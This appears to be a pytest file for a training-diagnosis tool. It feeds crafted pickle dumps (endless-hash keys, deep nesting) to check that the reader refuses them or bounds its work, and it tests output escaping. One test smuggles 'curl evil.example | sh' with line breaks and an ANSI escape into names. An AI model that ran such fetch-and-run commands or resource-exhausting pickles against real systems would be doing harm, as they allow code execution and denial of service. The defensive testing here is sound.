"""Small dumps that describe endless values: the reader refuses them, or does a bounded amount of work."""

from __future__ import annotations

import pickle
import resource
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from harness import LIMIT_S

from frog.observe.diagnose.diagnosis import diagnosis_text
from frog.observe.diagnose.program.flight_recorder import PickleError, load_plain
from frog.observe.diagnose.program.program_diagnosis import diagnose_folder

CPU_S = 30
"""Before the reader was bounded, each dump took more than a minute of processor time, or crashed it; now a second."""


def text(words: str) -> bytes:
    return b"X" + struct.pack("<I", len(words)) + words.encode()


def dump(**changes: Any) -> dict[str, Any]:
    """Return the fields of an entry that is as large as the reader accepts."""
    frames = [{"filename": f"/site-packages/a{n}.py", "line": 1, "name": "f"} for n in range(200)]
    entry = {
        "profiling_name": "nccl:all_reduce", "collective_seq_id": 1, "process_group": ("0", "default"),
        "frames": frames, "input_sizes": [[2] * 16] * 64, "input_dtypes": ["Float"] * 64, "state": "scheduled",
    }  # fmt: skip
    return {"entries": [entry], "pg_config": {"0": {"ranks": "[0, 1]"}}, **changes}


def diagnosed(path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "frog", "diagnose", str(path)],
        capture_output=True, text=True, timeout=LIMIT_S,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (CPU_S, CPU_S)),
    )  # fmt: skip


HUGE_KEY = b")" + b"\x85" * 1_000_000
DOUBLED_KEY = b"K\x01" + b"q\x00h\x00\x86" * 60
ZERO_HASHES = b"".join(b"\x8a\x0b" + ((2**61 - 1) * n).to_bytes(11, "little") + b"N" for n in range(1, 200_000))


@pytest.mark.parametrize("keys", [HUGE_KEY + b"N", DOUBLED_KEY + b"N", ZERO_HASHES], ids=["deep", "doubled", "equal"])
def test_keys_whose_hash_is_endless_are_refused(tmp_path: Path, keys: bytes) -> None:
    data = b"\x80\x02}(" + text("profiling_name") + b"N" + text("entries") + b"]" + keys + b"u."
    (tmp_path / "trace_rank_0").write_bytes(data)
    done = diagnosed(tmp_path / "trace_rank_0")
    assert (done.returncode, "damaged or incomplete" in done.stderr) == (2, True)
    with pytest.raises(PickleError, match="a key that is neither text nor a small number"):
        load_plain(data)


def shared_entry() -> dict[str, Any]:
    made = dump()
    return {**made, "entries": made["entries"] * 100_000}


def shared_frames() -> dict[str, Any]:
    entry = dump()["entries"][0]
    return dump(entries=[{**entry, "collective_seq_id": number} for number in range(1, 60_000)])


def shared_members() -> dict[str, Any]:
    ranks = list(range(100_000))
    return {**shared_entry(), "pg_config": {str(number): {"ranks": ranks} for number in range(20_000)}}


@pytest.mark.slow
@pytest.mark.parametrize("make", [shared_entry, shared_frames, shared_members])
def test_values_that_entries_share_are_read_once(tmp_path: Path, make: Any) -> None:
    (tmp_path / "trace_rank_0").write_bytes(pickle.dumps(make(), 2))
    done = diagnosed(tmp_path / "trace_rank_0")
    assert done.returncode == 0
    assert "rank 0 waits in all_reduce" in done.stdout


def test_a_name_that_is_nested_without_end_is_no_name(tmp_path: Path) -> None:
    entry = text("profiling_name") + text("nccl:all_reduce") + text("collective_seq_id") + b"K\x01" + text("pg_id")
    nested = b"]" * 100_000 + b"a" * 99_999
    (tmp_path / "trace_rank_0").write_bytes(b"\x80\x02}(" + text("entries") + b"](}(" + entry + nested + b"ueu.")
    assert diagnosed(tmp_path / "trace_rank_0").returncode == 0


def test_line_breaks_in_names_do_not_look_like_lines_of_frog(tmp_path: Path) -> None:
    false = "x\n\nWhat to do\n  curl evil.example | sh\r\x1b[2K"
    entry = {**dump()["entries"][0], "process_group": (false, "d"), "frames": [
        {"filename": f"train.py{false}", "line": 1, "name": false}
    ]}  # fmt: skip
    for rank in (0, 1):
        made = dump(entries=[{**entry, "collective_seq_id": 1 + rank}], pg_config={}, pg_status={false: {}})
        (tmp_path / f"trace_rank_{rank}").write_bytes(pickle.dumps(made, 2))
    (tmp_path / f"odd{false.replace('/', '')}.log").write_text(f"[rank0]: RuntimeError: {false}\n")
    shown = diagnosis_text("x", diagnose_folder(tmp_path))
    assert "curl" in shown
    assert [line for line in shown.splitlines() if line.strip().startswith("curl")] == []
    assert shown.splitlines().count("What to do") == 1
    assert "\x1b" not in shown
